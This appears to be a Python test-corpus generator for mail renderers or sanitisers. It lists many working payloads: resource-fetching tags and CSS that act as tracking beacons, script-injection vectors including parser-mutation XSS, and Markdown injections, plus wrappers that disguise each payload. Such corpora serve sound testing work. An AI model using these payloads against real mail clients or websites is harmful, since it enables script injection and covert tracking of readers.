"""Attacks on whoever reads a mail, made from tables: what fetches, what runs, how it is dressed, where it stands.

The ways are those of the HTML and CSS specifications (every element and property that fetches), and of published lists
of script injection, mutation of HTML by parsers included. `CANARY` is replaced by an address, `RUN` by a script.
"""

import html
from collections.abc import Callable, Iterator
from dataclasses import dataclass

FETCHING = (
    '<img src="CANARY">',
    "<img src='CANARY'>",
    "<img src=CANARY>",
    '<img srcset="CANARY 1x, CANARY?2 2x">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" lowsrc="CANARY" dynsrc="CANARY" longdesc="CANARY">',
    '<picture><source srcset="CANARY"><img alt="x"></picture>',
    '<image src="CANARY">',
    '<input type="image" src="CANARY">',
    '<video poster="CANARY" src="CANARY?v" autoplay muted></video>',
    '<audio src="CANARY" autoplay></audio>',
    '<video autoplay><source src="CANARY"><track default src="CANARY?t"></video>',
    '<object data="CANARY"></object>',
    '<object><param name="movie" value="CANARY"></object>',
    '<embed src="CANARY">',
    '<applet code="x" codebase="CANARY"></applet>',
    '<iframe src="CANARY"></iframe>',
    "<iframe srcdoc=\"<img src='CANARY'>\"></iframe>",
    '<frameset><frame src="CANARY"></frameset>',
    '<link rel="stylesheet" href="CANARY">',
    '<link rel="preload" as="image" href="CANARY"><link rel="prefetch" href="CANARY?p">',
    '<link rel="preconnect" href="CANARY"><link rel="dns-prefetch" href="CANARY">',
    '<link rel="icon" href="CANARY"><link rel="manifest" href="CANARY?m">',
    '<link rel="modulepreload" href="CANARY">',
    '<meta http-equiv="refresh" content="0;url=CANARY">',
    '<base href="CANARY/"><img src="x.png">',
    '<bgsound src="CANARY">',
    '<body background="CANARY">',
    '<table background="CANARY"><tr><td background="CANARY?td">x</td></tr></table>',
    '<svg><image href="CANARY" width="9" height="9"/></svg>',
    '<svg><image xlink:href="CANARY" width="9" height="9"/></svg>',
    '<svg><use href="CANARY#x"/></svg>',
    '<svg width="9" height="9"><filter id="f"><feImage href="CANARY"/></filter><rect filter="url(#f)"/></svg>',
    '<svg><style>@import "CANARY";</style></svg>',
    '<math><mtext href="CANARY">x</mtext></math>',
    "<style>@import url(CANARY);</style>",
    '<style>@import "CANARY";</style>',
    "<style>body{background:url(CANARY)}</style>",
    "<style>@font-face{font-family:x;src:url(CANARY)} *{font-family:x}</style>",
    '<style>a[href^="h"]{background:url(CANARY)}</style><a href="https://example.com">x</a>',
    '<div style="background:url(CANARY)">x</div>',
    "<div style='background-image:url(\"CANARY\")'>x</div>",
    '<div style="background:\\75rl(CANARY)">x</div>',
    '<div style="background:u\\72l(CANARY)">x</div>',
    '<div style="background:url/**/(CANARY)">x</div>',
    '<div style="background:URL(  CANARY  )">x</div>',
    "<div style=\"background:image-set('CANARY' 1x)\">x</div>",
    '<div style="background:-webkit-image-set(url(CANARY) 1x)">x</div>',
    '<div style="background:cross-fade(url(CANARY),url(CANARY?2),50%)">x</div>',
    '<div style="list-style:url(CANARY);display:list-item">x</div>',
    '<div style="border-image:url(CANARY) 9">x</div>',
    '<div style="cursor:url(CANARY),auto">x</div>',
    '<div style="content:url(CANARY)">x</div>',
    '<div style="mask-image:url(CANARY);-webkit-mask:url(CANARY)">x</div>',
    '<div style="clip-path:url(CANARY#c);filter:url(CANARY#f)">x</div>',
    '<div style="shape-outside:url(CANARY);float:left">x</div>',
    '<div style="--x:url(CANARY);background:var(--x)">x</div>',
    '<div style="color:red;}@import url(CANARY);{">x</div>',
    '<p style="behavior:url(CANARY);-moz-binding:url(CANARY#x)">x</p>',
    '<a href="https://example.com" ping="CANARY">x</a>',
    '<form action="CANARY" id="f"><input autofocus onfocus="this.form.submit()"></form>',
    '<button formaction="CANARY" type="submit">x</button>',
    '<menuitem icon="CANARY">x</menuitem>',
    '<img src="//CANARYHOST/x">',
    '<img src="\\\\CANARYHOST\\x">',
    '<img src="http:/\\CANARYHOST/x">',
    '<img src="&#104;ttp://CANARYHOST/x">',
    '<img src="cid:x" style="background:url(CANARY)">',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='CANARY'/></svg>\">",
    '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="CANARY"/></v:rect>',
    '<!--[if mso]><img src="CANARY"><![endif]--><![if !mso]><img src="CANARY?d"><![endif]>',
    '<blockquote cite="CANARY"><q cite="CANARY">x</q></blockquote>',
    '<html manifest="CANARY"><head profile="CANARY">',
    '<portal src="CANARY"></portal>',
    '<script src="CANARY"></script>',
)
RUNNING = (
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT >",
    '<script type="module">RUN</script>',
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    '<script src="data:text/javascript,RUN"></script>',
    '<img src="x" onerror="RUN">',
    "<img src=x onerror=RUN>",
    "<img/src/onerror='RUN'>",
    '<img src="x` `onerror="RUN">',
    '<body onload="RUN" onpageshow="RUN">',
    '<svg onload="RUN">',
    "<svg><script>RUN</script></svg>",
    '<svg><animate onbegin="RUN" attributeName="x" dur="1s">',
    '<svg><set onbegin="RUN" attributeName="x">',
    '<svg><a xlink:href="javascript:RUN"><text y="9">x</text></a></svg>',
    '<svg><foreignObject><iframe onload="RUN"></iframe></foreignObject></svg>',
    '<details open ontoggle="RUN"><summary>x</summary></details>',
    '<video src="x" onerror="RUN"></video>',
    '<audio src="x" onerror="RUN"></audio>',
    '<input autofocus onfocus="RUN">',
    '<select autofocus onfocus="RUN"></select>',
    '<textarea autofocus onfocus="RUN"></textarea>',
    '<div tabindex="0" autofocus onfocus="RUN">x</div>',
    '<marquee onstart="RUN">x</marquee>',
    '<object data="javascript:RUN"></object>',
    '<embed src="javascript:RUN">',
    '<iframe src="javascript:parent.RUN"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe onload='RUN'></iframe>",
    '<a href="javascript:RUN" id="x" autofocus>x</a>',
    '<a href="java\tscript:RUN">x</a>',
    '<a href=" &#1; javascript:RUN">x</a>',
    '<a href="&#106;avascript:RUN">x</a>',
    '<a href="data:text/html,<script>RUN</script>">x</a>',
    '<a href="vbscript:RUN">x</a>',
    '<form action="javascript:RUN"><button autofocus onfocus="this.click()">x</button></form>',
    '<form><button formaction="javascript:RUN">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
    '<base href="javascript:RUN//">',
    '<link rel="import" href="data:text/html,<script>RUN</script>">',
    '<div style="animation:x 1s" onanimationstart="RUN">x</div><style>@keyframes x{}</style>',
    '<div style="width:expression(RUN)">x</div>',
    '<div style="transition:all 1s" ontransitionend="RUN">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">',
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    "<template><script>RUN</script></template>",
    '<div><template shadowrootmode="open"><img src=x onerror="RUN"></template></div>',
    '<xmp><p title="</xmp><img src=x onerror=RUN>">',
    '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
    '<title><img title="</title><img src=x onerror=RUN>">',
    "<textarea></textarea><img src=x onerror=RUN></textarea>",
    "<!--><img src=x onerror=RUN>-->",
    "<!-- --!><img src=x onerror=RUN> -->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml ?><img src=x onerror=RUN>",
    "</body></html><script>RUN</script>",
    '"><script>RUN</script>',
    "'><img src=x onerror=RUN>",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "</script><script>RUN</script>",
    "</title></style></textarea><svg/onload=RUN>",
    "<x onclick=RUN onmouseover=RUN style=position:fixed;inset:0>x</x>",
    '<img src="x" is="x" onerror="RUN" onerror="RUN">',
    "<plaintext onfocus=RUN autofocus tabindex=1>",
)
SAID = (
    "![x](CANARY)",
    "![x][1]\n\n[1]: CANARY",
    "[![x](CANARY)](https://example.com)",
    "<img src='CANARY'>",
    "<img src=x onerror=RUN>",
    "<script>RUN</script>",
    "[x](javascript:RUN)",
    "[x](data:text/html,<script>RUN</script>)",
    "<javascript:RUN>",
    "`<img src=CANARY>` and ![ ]( CANARY 'x')",
    "<iframe src='CANARY'></iframe>",
    "<style>@import 'CANARY';</style>",
    "| a |\n|---|\n| ![x](CANARY) |",
    "- ![x](CANARY)\n- <svg onload=RUN>",
    "# ![x](CANARY)",
    "> <img src=CANARY>\n> <details open ontoggle=RUN>",
    "```html\n<img src=CANARY onerror=RUN>\n```",
    "[x](CANARY 'title\" onmouseover=\"RUN')",
    '&lt;img src=CANARY&gt;<img src="CANARY"/>',
    "<link rel=stylesheet href=CANARY>",
    "<video src=CANARY autoplay>",
    "{{constructor.constructor('RUN')()}} ${RUN}",
    "<meta http-equiv=refresh content='0;url=CANARY'>",
    "[ref]: javascript:RUN\n\n[ref] ![ref]",
)


def _as_it_is(attack: str) -> str:
    return attack


def _shouting(attack: str) -> str:
    return attack.upper()


def _buried(attack: str) -> str:
    return f"<table><tr><td><div><p>Dear Jo,<b><i>{attack}</i></b></p></div></td></tr></table><p>Yours</p>"


def _quoted(attack: str) -> str:
    return f'<p>See below.</p><div class="gmail_quote"><blockquote>{attack}</blockquote></div>'


def _twice_escaped(attack: str) -> str:
    return html.escape(attack)


DRESSES: tuple[Callable[[str], str], ...] = (_as_it_is, _buried, _quoted, _shouting, _twice_escaped)


@dataclass(frozen=True, slots=True)
class Attack:
    """One payload, and where it stands: in a mail's `html`, in its `names` (subject, sender, attachment), or `said`."""

    place: str
    text: str

    def aimed(self, canary: str) -> str:
        """The payload with a canary's address and a script that would be noticed."""
        host = canary.partition("//")[2].partition("/")[0]
        script = f"top.__pwned=1;fetch(`{canary}?ran`)"
        return self.text.replace("CANARYHOST", host).replace("CANARY", canary).replace("RUN", script)


def in_html() -> Iterator[Attack]:
    """Every attack as it is, and each in one other dress."""
    attacks = FETCHING + RUNNING
    yield from (Attack("html", attack) for attack in attacks)
    for number, attack in enumerate(attacks):
        yield Attack("html", DRESSES[1 + number % (len(DRESSES) - 1)](attack))


def in_names() -> Iterator[Attack]:
    one_line = (attack for attack in FETCHING[:8] + RUNNING if "\n" not in attack and "\t" not in attack)
    return (Attack("names", attack) for attack in one_line)


def said() -> Iterator[Attack]:
    return (Attack("said", attack) for attack in SAID)


def spread(attacks: list[Attack], number: int) -> list[Attack]:
    """Return so many of them, evenly from all over the list."""
    return [attacks[index * len(attacks) // number] for index in range(number)]
